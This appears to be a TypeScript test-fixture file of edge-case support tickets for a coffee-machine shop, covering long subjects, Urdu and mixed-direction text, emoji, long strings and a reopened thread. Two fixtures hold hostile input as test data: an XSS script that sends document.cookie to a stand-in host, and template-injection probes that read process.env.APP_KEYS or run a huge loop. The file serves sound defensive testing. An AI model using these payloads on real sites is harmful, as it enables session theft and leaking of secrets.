type Told = readonly [subject: string, text: string];

const TOO_MUCH_TO_SAY =
  'I am writing the whole of my question into the subject because the last time nobody seems to have read the text below it, ' +
  'and it is really quite simple: does the small gasket for the large holder also fit the large gasket for the small holder, yes or no, thank you';

/** 250 characters, to the letter. */
export const LONG_SUBJECT: Told = [
  TOO_MUCH_TO_SAY.padEnd(250, '!').slice(0, 250),
  'As above. There is nothing else to say.',
];

export const RIGHT_TO_LEFT: Told = [
  'مشین آن نہیں ہوتی، اور بتی بھی نہیں جلتی',
  'السلام علیکم،\n\nکل رات سے مشین آن نہیں ہو رہی۔ تار، ساکٹ اور فیوز سب دیکھ لیے ہیں۔ دوسری چیزیں اسی ساکٹ پر چلتی ہیں۔\n\n1. بتی نہیں جلتی\n2. پمپ کی آواز نہیں آتی\n3. بٹن دبانے سے ہلکی سی "کلک" ہوتی ہے\n\nشکریہ\nمحمد بلال',
];
export const RIGHT_TO_LEFT_ANSWER =
  'وعلیکم السلام، یہ غالباً مین سوئچ ہے۔ براہِ کرم مشین کا ماڈل، سیریل نمبر اور آرڈر نمبر بھیج دیں تاکہ ہم درست پرزہ نکال سکیں۔';

export const MIXED_DIRECTION: Told = [
  'Heron Duo: خرابی E3 (serial H21-77310) کے بعد restart',
  'میری Heron Duo میں error E3 آتا ہے، manual کے صفحہ 14 پر صرف E1 اور E2 ہیں۔\nOrder: Q-51120 (ادائیگی: 412.50)\nhttps://shop.example.com/machines?model=heron-duo&lang=ur پر بھی کچھ نہیں ملا۔\n\nPlease answer in English if that is easier. شکریہ!',
];

export const EMOJI: Told = [
  '☕️☕️☕️ → 💧💧💧 → 😭',
  '🙋🏽‍♀️ Hello! My Wren 🐦 makes 💦 instead of ☕️ since 🗓️ Monday.\n👩‍👩‍👧‍👦 all of us are 😴😴😴😴.\nThe family account is number ①②③. 🏴󠁧󠁢󠁷󠁬󠁳󠁿 greetings, é à ü ñ, e\u0301 (that one is two characters).\n🙏🏿',
];

export const VERY_LONG: Told = [
  'My diary of 260 cups, as you asked',
  [
    'You asked me to watch it for a while. I have. Here is every cup since the spring:',
    ...Array.from(
      { length: 260 },
      (_, cup) =>
        `Cup ${cup + 1}: ${cup % 7 === 4 ? 'too fast and too pale, poured away' : 'as it should be'}, ${24 + (cup % 9)} seconds, ${cup % 11 === 0 ? 'a drop of water at the rim' : 'dry'}.`
    ),
    'I hope that this is enough for you to find the reason.',
  ].join('\n'),
];

export const TWICE_REOPENED: Told = [
  'Wren says "fill tank" although it is full',
  'Since Sunday my Wren believes that its tank is empty. It is full. Lifting it helps for one cup, then it complains again.\n\nThanks\nRobin',
];
export const TWICE_REOPENED_LINES = [
  'Does the small float in the bottom of the tank move freely when you tip it?',
  'It moves, but it gets stuck half way now and then. There is a picture in my first message.',
  'Rinse it with warm water and a drop of vinegar, that is usually all it takes.',
  'It was fine for three days. This morning it is back, and the guests were there.',
  'You were patient enough. A new float is on its way; it clicks in without tools.',
  'The float came, thank you, but it is the one for the Heron: too wide by a hair.',
  'Bag 4-112 holds the wrong floats. Amina sorts them out.',
  'That was our mistake, the bag was labelled wrongly. The right one has left by express, with a bag of Slow Sunday.',
] as const;

export const LOOKS_LIKE_HTML: Told = [
  '</title><script>alert("subject")</script> <b>bold?</b>',
  '<h1>Hello</h1>\n<script>document.location="https://example.com/?c="+document.cookie</script>\n<img src=x onerror="alert(1)"> <a href="javascript:alert(2)">click</a>\n<style>body{display:none}</style>\nI build pages for a living and my keyboard is stuck. Do you ship gaskets < 58 mm && > 54 mm?\n&lt;this was typed with entities&gt; &amp; so was this',
];

export const LOOKS_LIKE_LIQUID: Told = [
  '{{ ticket.key }} {% if true %}yes{% endif %}',
  'Our newsletter tool left this in my order remark:\n{{ company.name | upcase }} {% for item in (1..1000000) %}x{% endfor %} {{ "now" | date: "%s" }}\n${process.env.APP_KEYS} #{7*7} <%= 7 * 7 %> {{7*7}}\nPlease ignore it and just deliver.',
];

export const LEFT_BEHIND: Told = [
  'A call back, please',
  'I would rather talk about this than write. Could somebody call me about the noise of my Heron?',
];

export const MANY_FILES: Told = [
  'Pictures of everything',
  'You said that pictures help. Here are the first five.',
];

export const NO_SPACES: Told = [
  `https://shop.example.com/${'very-'.repeat(30)}long-address`,
  `My browser shows only the beginning of this:\n${'0123456789abcdef'.repeat(60)}\nand of this: ${'ah'.repeat(200)}`,
];

export const SAME_NAME: Told = [
  'There are two of us',
  'Your shop mixes me up with somebody of the same name. I did not order any grinder.',
];
